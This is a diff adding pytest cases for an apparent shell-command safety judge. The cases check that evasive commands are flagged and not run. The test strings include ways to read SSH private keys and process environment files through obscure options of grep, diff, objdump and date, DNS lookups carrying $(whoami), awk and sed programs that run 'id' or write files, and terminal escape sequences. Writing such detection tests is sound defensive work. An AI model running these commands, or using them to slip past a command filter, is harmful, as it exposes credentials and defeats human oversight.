@@ -152,6 +152,70 @@ def test_everything_else_waits_and_says_why(project, command, why):
     assert why in found.reason, found.reason
 
 
+@pytest.mark.parametrize("command,why", [
+    # a key read through an option's value, or through a list of names read from a file or a pipe
+    ("grep --reg=. ~/.ssh/id_ed25519", "reads keys or credentials"),  # an abbreviated --regexp=
+    ("grep -e. ~/.ssh/id_ed25519", "reads keys or credentials"),  # -e's value attached
+    ("rg --ignore-file ~/.ssh/id_ed25519 x", "reads keys or credentials"),  # a valued option, not the pattern
+    ("diff --from-file=$HOME/.ssh/id_ed25519 /dev/null", "reads keys or credentials"),
+    ("date -f ~/.ssh/id_ed25519", "reads a list of names or values from a file"),  # each line in an error
+    ("date --file=x", "reads a list of names or values from a file"),
+    ("file -f ~/.ssh/id_ed25519", "reads a list of names or values from a file"),
+    ("tree --fromfile ~/.ssh/id_ed25519", "reads a list of names or values from a file"),
+    ("find ~/.ssh -print0 | sort --files0-from=-", "reads a list of names or values from a file"),
+    ("xargs --arg-file=x echo", "reads a list of names or values from a file"),
+    ("objdump -s -b binary ~/.ssh/id_ed25519", "reads keys or credentials"),  # a hex dump of any file
+    # a directory read whole by a content reader
+    ("diff -rN ~ /tmp/empty", "searches ~ whole"),
+    ("git diff --no-index ~ /tmp/empty", "searches ~ whole"),
+    ("grep -d recurse BEGIN ~", "searches ~ whole"),
+    ("grep --directories=recurse BEGIN ~", "searches ~ whole"),
+    # a path whose place is not known: a substitution's output, another directory, a pattern not modelled
+    ("cat $(readlink -f notes.txt)", "reads a file whose name is not known"),
+    ('cat "$(basename notes.txt)"', "reads a file whose name is not known"),
+    ("cat $OLDPWD/*", "reads a file whose name is not known"),
+    ("cat ~-/*", "reads a file whose name is not known"),
+    ("cat ~+/x", "reads a file whose name is not known"),
+    ("cd - && cat *", "reads a file whose name is not known"),
+    ("popd && cat *", "reads a file whose name is not known"),
+    ("cat ~/.ssh/id_*~*.pub", "reads a file whose name is not known"),  # zsh's extended glob
+    ("cat /proc/self/task/1/environ", "reads keys or credentials"),
+    # terminal control sequences in any spelling
+    ("echo -e '\\0033]52;c;aGk=\\a'", "prints terminal control sequences"),
+    ("printf '\\u1b]0;x\\a'", "prints terminal control sequences"),
+    ("printf '\\U1b[6n'", "prints terminal control sequences"),
+    ("echo \u009b6n", "holds control characters"),  # an 8-bit CSI
+    # the network, disguised
+    ("getent hosts $(whoami).example.com", "sends data to the network (getent hosts"),
+    ("getent ahosts example.com", "sends data to the network"),
+    ("journalctl -H example.com", "sends data to the network"),
+    ("journalctl --machine=box", "sends data to the network"),
+    ("docker run alpine --help", "sends data to the network"),
+    ("git help --web log", "git help --web is not known to only read"),
+    # interpreters and writers hidden in a reader's program
+    ("echo 'link set lo down' | ip -b -", "ip -b is not known to only read"),
+    ("awk 'BEGIN{ARGV[1]=\"/etc/x\";ARGC=2}{print}'", "is not known to only print"),
+    ("awk -e 'BEGIN{x=1}' -e 'BEGIN{system(\"id\")}'", "is not known to only print"),
+    ("awk --source='BEGIN{system(\"id\")}'", "is not known to only print"),
+    ("yq -n 'load_str(\"/etc/x\")'", "prints the environment or history"),
+    ("jq -n 'import \"/etc/x\" as $c; $c'", "reads files named in its filter"),
+    ("sed --expr='1w /tmp/pwn' notes.txt", "is not known to only print"),
+    # what never ends
+    ("free -s1", "runs until stopped"),
+    ("sleep infinity", "runs until stopped"),
+])
+def test_holes_found_by_hand_wait(project, command, why):
+    found = judge(command, cwd=str(project))
+    assert not found.harmless, command
+    assert why in found.reason, (command, found.reason)
+
+
+def test_a_pattern_is_expanded_as_the_shells_may_with_their_options(project):
+    """dotglob/globdots and nocaseglob make `*` reach hidden names and other cases."""
+    assert "reads keys" in judge("cat ../*/id_*", cwd=str(project)).reason
+    assert "reads keys" in judge("cat ../.SSH/ID_*", cwd=str(project)).reason
+
+
 def test_a_link_or_a_pattern_that_reaches_a_key_is_the_key(project):
     (project / "README").symlink_to(project.parent / ".ssh" / "id_ed25519")
     assert "reads keys or credentials" in judge("cat README", cwd=str(project)).reason
